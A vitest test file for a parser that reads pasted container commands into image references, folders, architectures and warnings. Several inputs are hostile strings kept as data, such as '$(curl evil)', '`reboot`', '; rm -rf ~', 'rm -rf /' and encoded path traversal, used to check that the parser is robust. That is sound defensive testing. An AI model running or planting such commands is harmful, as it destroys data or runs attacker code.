import { describe, expect, it } from 'vitest';
import { recognisePastedText } from './pastedText.ts';

const digest = `sha256:${'0123456789abcdef'.repeat(4)}`;

describe('what a line says beside the image', () => {
  it('keeps target, folder and architecture', () => {
    expect(
      recognisePastedText('singularity pull --arch arm64v8 --dir /scratch/x/ my.sif docker://alpine'),
    ).toMatchObject({ fileName: 'my.sif', folder: '/scratch/x', architecture: 'arm64' });
    expect(recognisePastedText('apptainer build /data/images/a.sif docker://alpine')).toMatchObject({
      fileName: 'a.sif',
      folder: '/data/images',
    });
    expect(recognisePastedText('singularity pull --name lol.simg shub://a/b')).toMatchObject({
      fileName: 'lol.simg',
    });
    expect(recognisePastedText('docker pull --platform=linux/arm64/v8 alpine').architecture).toBe('arm64');
    expect(recognisePastedText('apptainer pull --arch=x86_64 docker://alpine').architecture).toBe('amd64');
  });

  it('expands nothing of a folder', () => {
    expect(recognisePastedText('apptainer pull $SCRATCH/x.sif docker://alpine')).toMatchObject({
      fileName: 'x.sif',
      folder: null,
    });
    expect(recognisePastedText('apptainer pull $(whoami) docker://alpine')).toMatchObject({ fileName: null });
  });

  it('knows when a sandbox is wanted', () => {
    for (const line of [
      'apptainer build --sandbox ubuntu/ docker://ubuntu',
      'singularity build -s ubuntu docker://ubuntu',
      'sudo singularity build -sF ubuntu docker://ubuntu',
      'apptainer pull --sandbox ubuntu docker://ubuntu',
    ]) {
      expect(recognisePastedText(line), line).toMatchObject({ form: 'sandbox', fileName: 'ubuntu' });
    }
    expect(recognisePastedText('apptainer -s build x.sif docker://ubuntu').form).toBe('sif');
  });

  it('takes plain http over, and no password', () => {
    expect(recognisePastedText('apptainer pull --no-https oras://reg.lab:5000/x').allowHttp).toBe(true);
    expect(recognisePastedText('podman pull --tls-verify=false reg.lab:5000/x').allowHttp).toBe(true);
    expect(recognisePastedText('APPTAINER_NOHTTPS=true apptainer pull docker://reg/x').allowHttp).toBe(true);
    expect(recognisePastedText('apptainer pull docker://reg.lab:5000/x').allowHttp).toBe(false);
    for (const line of [
      'podman pull --creds alice:hunter2 ghcr.io/lab/x:1',
      'APPTAINER_DOCKER_PASSWORD=hunter2 apptainer pull docker://ghcr.io/lab/x:1',
      'singularity pull --docker-password hunter2 docker://ghcr.io/lab/x:1',
    ]) {
      const taken = recognisePastedText(line);
      expect(taken.warnings.map(({ code }) => code)).toContain('passwordLeftOut');
      expect(JSON.stringify(taken)).not.toContain('hunter2');
    }
  });

  it('warns of what would surprise', () => {
    const codes = (text: string) => recognisePastedText(text).warnings.map(({ code }) => code);
    expect(codes('docker run alpine rm -rf /')).toEqual(['onlyPulled']);
    expect(codes('quay.io/biocontainers/samtools')).toEqual(['needsTag']);
    expect(codes('https://catalog.ngc.nvidia.com/orgs/nvidia/containers/pytorch')).toEqual(['needsTag']);
    expect(codes('nvcr.io/nvidia/pytorch:24.01-py3')).toEqual([]);
    expect(codes(`alpine:3.20@${digest}`)).toEqual(['digestCounts']);
  });

  it('gives names with an ending to files that have none', () => {
    expect(
      recognisePastedText('https://depot.galaxyproject.org/singularity/samtools:1.20--h50ea8bc_0').fileName,
    ).toBe('samtools_1.20--h50ea8bc_0.sif');
  });

  it('asks the library that it is told', () => {
    expect(recognisePastedText('library://a/b/c', { library: 'library.example.org' })).toMatchObject({
      reference: 'library://library.example.org/a/b/c:latest',
      explanation: { facts: { host: 'library.example.org' } },
    });
  });
});

describe('several images', () => {
  it('offers each once', () => {
    expect(
      recognisePastedText(
        'docker pull alpine:3.20\ndocker pull ubuntu:24.04\napptainer pull docker://alpine:3.20',
      ),
    ).toMatchObject({
      kind: 'several',
      reference: null,
      references: ['docker://alpine:3.20', 'docker://ubuntu:24.04'],
      explanation: { code: 'several', facts: { count: '2' } },
    });
    expect(recognisePastedText('alpine:3.20 ghcr.io/lab/x:1').references).toEqual([
      'docker://alpine:3.20',
      'docker://ghcr.io/lab/x:1',
    ]);
    expect(
      recognisePastedText('FROM golang:1.23 AS build\nFROM alpine:3.20\nCOPY --from=build /a /a').kind,
    ).toBe('several');
  });
});

describe('text that means harm', () => {
  it('is looked at and nothing more, however it is made', () => {
    for (const text of [
      '$(curl evil)',
      '`reboot`',
      'docker pull $(id)',
      'apptainer exec docker://a; rm -rf ~',
      '-'.repeat(4000),
      `docker run ${'-v a:b '.repeat(500)}alpine`,
      `https://hub.docker.com/r/${'%2e%2e%2f'.repeat(100)}`,
      'https://hub.docker.com/r/%zz/%zz',
      `${'('.repeat(2000)}${')'.repeat(2000)}`,
      'docker://'.repeat(400),
    ]) {
      expect(() => recognisePastedText(text)).not.toThrow();
    }
  });
});
